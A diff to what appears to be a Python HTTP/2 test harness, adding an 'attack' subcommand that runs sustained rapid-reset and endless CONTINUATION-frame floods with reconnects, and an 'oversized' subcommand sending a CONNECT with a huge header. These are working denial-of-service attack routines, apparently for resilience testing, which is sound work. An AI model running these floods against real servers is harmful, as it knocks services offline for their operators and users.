@@ -12,6 +12,10 @@ connection. Subcommands (each prints one JSON object on its last stdout line):
   flood   --connect ...      open many streams and reset each at once (rapid reset)
   violate --connect ...      send an HTTP/2 protocol violation after the preface
   garbage --connect ...      send bytes that are not TLS at all
+  attack  --connect ... --kind rapid-reset|continuation --seconds S
+                             a sustained flood: attack, and reconnect each time the
+                             server closes the connection, until S seconds have passed
+  oversized --connect ...    one CONNECT whose header list is --header-bytes long
 
 Test-only code: it trusts the CA file it is given and nothing else.
 """
@@ -303,11 +307,131 @@ def cmd_garbage(args):
     emit({"closed": closed})
 
 
+def raw_frame(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def attack_once(args, deadline):
+    """One connection's worth of attack; returns (frames sent, closed by server, seconds open)."""
+    opened = time.time()
+    sock, error = connect_tls(args)
+    if error:
+        return 0, False, 0.0, error
+    sent = 0
+    conn = None
+    try:
+        if args.kind == "rapid-reset":
+            conn = new_h2(True, 16 * 1024)
+            sock.sendall(conn.data_to_send())
+            while True:  # at least one batch, so every connection is an attack
+                for _ in range(50):
+                    stream = conn.get_next_available_stream_id()
+                    conn.send_headers(stream, [(":method", "CONNECT"), (":authority", args.authority)])
+                    conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
+                    sent += 1
+                sock.sendall(conn.data_to_send())
+                if time.time() >= deadline and sent >= 1000:
+                    break
+        else:
+            # HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
+            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + raw_frame(4, 0, 0, b""))
+            sock.sendall(raw_frame(1, 0, 1, b"\x00\x01a\x01b"))
+            sent += 1
+            chunk = raw_frame(9, 0, 1, b"\x00\x01a\x01b" * 4) * 64
+            while True:  # at least one batch, so every connection is an attack
+                sock.sendall(chunk)
+                sent += 64
+                if time.time() >= deadline:
+                    break
+    except (ssl.SSLError, OSError, h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
+        pass
+    closed, _ = read_until_closed(sock, None, max(0.5, min(args.timeout, deadline - time.time() + 5)))
+    try:
+        sock.close()
+    except OSError:
+        pass
+    return sent, closed, time.time() - opened, None
+
+
+def cmd_attack(args):
+    deadline = time.time() + args.seconds
+    connections = closed = frames = 0
+    longest = 0.0
+    errors = []
+    # No new connection in the last half second: it would end before it is an attack.
+    while time.time() < deadline - 0.5:
+        sent, was_closed, seconds, error = attack_once(args, deadline)
+        if error:
+            errors.append(error)
+            time.sleep(0.05)
+            if len(errors) > 100:
+                break
+            continue
+        connections += 1
+        frames += sent
+        closed += 1 if was_closed else 0
+        longest = max(longest, seconds)
+    emit({"connections": connections, "closed_by_server": closed, "frames": frames,
+          "longest_connection_seconds": round(longest, 3), "errors": errors[:3], "error_count": len(errors)})
+
+
+def cmd_oversized(args):
+    sock, error = connect_tls(args)
+    if error:
+        emit({"handshake": error})
+        return
+    conn = new_h2(True, 16 * 1024)
+    stream = conn.get_next_available_stream_id()
+    headers = [(":method", "CONNECT"), (":authority", args.authority),
+               ("x-padding", "p" * args.header_bytes)]
+    result = {"handshake": "ok"}
+    try:
+        sock.sendall(conn.data_to_send())
+        if args.wait_settings:
+            # The server's SETTINGS (its header list limit among them) apply once we ACK them.
+            settled = False
+            while not settled:
+                data = sock.recv(65536)
+                if not data:
+                    break
+                for event in conn.receive_data(data):
+                    if isinstance(event, h2.events.RemoteSettingsChanged):
+                        settled = True
+                sock.sendall(conn.data_to_send())
+            time.sleep(0.2)
+        conn.send_headers(stream, headers, end_stream=False)
+        sock.sendall(conn.data_to_send())
+        end = time.time() + args.timeout
+        while time.time() < end and "status" not in result:
+            data = sock.recv(65536)
+            if not data:
+                result["closed"] = True
+                break
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ResponseReceived):
+                    result["status"] = int(dict(event.headers).get(":status", "0"))
+                elif isinstance(event, h2.events.StreamReset):
+                    result["reset"] = int(event.error_code)
+                elif isinstance(event, h2.events.ConnectionTerminated):
+                    result["goaway"] = int(event.error_code)
+            out = conn.data_to_send()
+            if out:
+                sock.sendall(out)
+            if "reset" in result or "goaway" in result:
+                break
+    except (ssl.SSLError, OSError, h2.exceptions.ProtocolError) as error:
+        result["error"] = str(error)
+    if "status" not in result and "closed" not in result:
+        result["closed"], _ = read_until_closed(sock, conn, args.timeout)
+    sock.close()
+    emit(result)
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     sub = parser.add_subparsers(dest="command", required=True)
     sub.add_parser("check")
-    for name in ("client", "flood", "violate", "garbage"):
+    for name in ("client", "flood", "violate", "garbage", "attack", "oversized"):
         p = sub.add_parser(name)
         p.add_argument("--connect", required=True)
         p.add_argument("--cert")
@@ -319,6 +443,9 @@ def main():
         p.add_argument("--streams", type=int, default=2000)
         p.add_argument("--kind", default="oversized-frame")
         p.add_argument("--timeout", type=float, default=10)
+        p.add_argument("--seconds", type=float, default=5)
+        p.add_argument("--header-bytes", type=int, default=100000)
+        p.add_argument("--wait-settings", action="store_true")
     p = sub.add_parser("server")
     p.add_argument("--listen", required=True)
     p.add_argument("--cert", required=True)
@@ -329,7 +456,7 @@ def main():
     p.add_argument("--max-seconds", type=float, default=120)
     args = parser.parse_args()
     {"check": cmd_check, "client": cmd_client, "server": cmd_server, "flood": cmd_flood,
-     "violate": cmd_violate, "garbage": cmd_garbage}[args.command](args)
+     "violate": cmd_violate, "garbage": cmd_garbage, "attack": cmd_attack, "oversized": cmd_oversized}[args.command](args)
 
 
 if __name__ == "__main__":
